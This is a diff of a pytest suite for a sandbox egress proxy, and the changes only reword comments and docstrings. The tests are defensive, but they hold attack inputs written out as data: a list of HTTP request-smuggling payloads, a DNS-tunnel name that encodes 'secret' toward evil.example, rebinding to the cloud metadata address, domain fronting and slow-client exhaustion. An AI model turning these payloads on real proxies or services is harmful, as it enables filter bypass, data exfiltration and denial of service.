@@ -113,7 +113,7 @@ def test_services_of_the_machine_are_not_in_the_sandbox(proxied: Proxied) -> Non
 
 
 def test_a_name_that_is_not_allowed_is_not_resolved(proxied: Proxied) -> None:
-    """Data in names would reach the name server of any domain (a DNS tunnel)."""
+    """Check for DNS tunnels: a query for a name would send its text to the domain's name server."""
     before = proxied.report()["denied"]
     for name in ("c2VjcmV0.tunnel.evil.example", "good.example.evil.example", "evil.example"):
         assert status(proxied.get(f"http://{name}/")) == 403
@@ -191,7 +191,7 @@ def test_a_name_in_the_machines_hosts_file_does_not_lead_to_it(proxied: Proxied)
 
 
 def test_a_name_that_changes_its_address_is_checked_for_each_connection(proxied: Proxied) -> None:
-    """A resolver that answers differently the second time (DNS rebinding)."""
+    """Let a name server return another address for the second query (DNS rebinding)."""
     answers = iter(([PUBLIC], ["169.254.169.254"]))
     asked: list[list[str]] = []
 
@@ -221,7 +221,7 @@ def test_internal_addresses_beside_public_ones_are_not_tried(proxied: Proxied) -
         assert status(proxied.get("http://good.example/")) == 200
     assert len(public.received) == 1
     assert metadata.received == []
-    # The public one does not answer now.
+    # The server with the public address does not answer now.
     with Server(proxied.world, "169.254.169.254", 80) as metadata:
         assert status(proxied.get("http://good.example/")) == 403
     assert metadata.received == []
@@ -292,7 +292,7 @@ POST = "POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\n"
 @pytest.mark.parametrize(
     "request_text",
     [
-        # Two lengths
+        # Requests with two lengths of the body
         POST + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL,
         POST + "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + EVIL,
         POST + "Content-Length: 0\r\nContent-Length: 50\r\n\r\n" + EVIL,
@@ -303,14 +303,14 @@ POST = "POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\n"
         POST + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + EVIL,
         POST + "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL,
         POST + "Connection: content-length\r\nContent-Length: 5\r\n\r\n" + EVIL,
-        # Lines with two readings
+        # Requests with lines that parsers read differently
         POST.replace("\r\n", "\n") + "\n" + EVIL,
         POST + "X: y\nHost: evil.example\r\n\r\n",
         POST + "X: y\rHost: evil.example\r\n\r\n",
         POST + " Host: evil.example\r\n\r\n",
         POST + "X: y\r\n\tfolded: z\r\n\r\n",
         POST + "X: y\0z\r\n\r\n",
-        # Two hosts
+        # Requests with two hosts
         POST + "Host: evil.example\r\n\r\n",
         POST + "Host: good.example\r\n\r\n",
         "GET http://good.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
@@ -319,7 +319,7 @@ POST = "POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\n"
         "GET http://good.example HTTP/1.1 HTTP/1.1\r\nHost: good.example\r\n\r\n",
         "GET / HTTP/1.1\r\nHost: good.example\r\n\r\n",
         "\r\n" + EVIL,
-        # Other protocols
+        # Requests of other protocols
         "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
         "\x05\x01\x00\x03\x0cevil.example\x00\x50\r\n\r\n",
         "GET http://good.example/\r\n\r\n",
@@ -356,7 +356,7 @@ def test_an_ambiguous_chunk_ends_the_request(proxied: Proxied, body: str) -> Non
 
 @pytest.mark.parametrize("size", ["Content-Length: 3\r\n\r\nabc", "\r\n"])
 def test_a_second_request_on_a_connection_is_not_served(proxied: Proxied, size: str) -> None:
-    """Pipelined, or after the answer (keep-alive), to another host."""
+    """Send a second request for another host, pipelined or after the answer (keep-alive)."""
     with (
         Server(proxied.world) as good,
         Server(proxied.world, OTHER_PUBLIC) as evil,
@@ -373,7 +373,7 @@ def test_a_second_request_on_a_connection_is_not_served(proxied: Proxied, size: 
 
 
 def test_an_upgraded_connection_is_no_tunnel(proxied: Proxied) -> None:
-    """A server of the attacker's answers 101, though the proxy has removed Upgrade."""
+    """Let the attacker's server answer with status 101, although the proxy removes Upgrade."""
     answer = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n"
     with Server(proxied.world, answer=answer) as good, proxied.connect() as client:
         client.sendall(
@@ -427,7 +427,7 @@ def fragmented(name: str) -> bytes:
 
 
 def with_extension(name: str, kind: int) -> bytes:
-    """Return a ClientHello with an extension in place of status_request or session_ticket."""
+    """Return a ClientHello with an extension that replaces status_request or session_ticket."""
     hello = client_hello(name)
     ticket = hello.index(b"\x00\x23\x00\x00")
     return hello[:ticket] + kind.to_bytes(2) + hello[ticket + 2 :]
@@ -449,7 +449,7 @@ def with_extension(name: str, kind: int) -> bytes:
     ],
 )
 def test_a_tunnel_carries_tls_to_its_name_only(proxied: Proxied, first: bytes, reason: str) -> None:
-    """For example for another name at the same address (domain fronting)."""
+    """Open a tunnel for one name, and send TLS for another name at the same address."""
     before = proxied.report()["denied"]
     with (
         Server(proxied.world, port=443, serve=Server.serve_echo) as server,
@@ -482,7 +482,7 @@ def test_a_huge_head_is_refused(proxied: Proxied) -> None:
 
 
 def test_an_answer_without_an_end_does_not_fill_the_memory(proxied: Proxied) -> None:
-    """A server floods a client that does not read."""
+    """Let a server send without end to a client that does not read."""
     sent = []
     is_blocked = threading.Event()
 
@@ -520,7 +520,7 @@ def own(world: World, names: NameServer, shared: Proxied) -> Iterator[Proxied]:
 
 
 def test_slow_clients_are_cut_off(own: Proxied) -> None:
-    """All connections that the proxy has are used by clients that send a byte now and then."""
+    """Use up all connections of the proxy by clients that send a byte from time to time."""
     with (
         Server(own.world, port=443, serve=Server.serve_echo) as tls,
         Server(own.world) as good,
@@ -537,7 +537,7 @@ def test_slow_clients_are_cut_off(own: Proxied) -> None:
                     client.sendall(b"G")
             time.sleep(0.2)
         assert own.refused() == ["good.example:443: no ClientHello came in time"]
-        # A waiting client has its turn now.
+        # The proxy accepts the waiting client now.
         assert status(own.get("http://good.example/")) == 200
         assert {read_all(client)[:12] for client in slow} <= {b"HTTP/1.1 408", b""}
     assert [bytes(received) for received in tls.received] == [b""]
@@ -565,7 +565,7 @@ def test_the_proxy_has_no_privileges(own: Proxied) -> None:
     assert own_status["NoNewPrivs"] == "1"
     assert own_status["Seccomp"] == "2"
     assert Path(f"/proc/{own.proxy_pid}/environ").read_bytes() == b""
-    # Process 1 of a PID namespace of its own.
+    # The proxy is process 1 of a PID namespace of its own.
     assert own_status["NSpid"].split()[-1] == "1"
 
 
@@ -579,7 +579,7 @@ def test_the_proxy_ends_with_its_parent(own: Proxied) -> None:
 
 
 def test_an_interrupt_of_the_terminal_leaves_the_proxy(own: Proxied) -> None:
-    """The sandbox may go on after Ctrl-C."""
+    """Check that Ctrl-C does not end the proxy: the sandbox may handle SIGINT and continue."""
     # Python handles SIGINT, so the kernel delivers the signal also to process 1 of a namespace.
     own.interrupt()
     with Server(own.world):
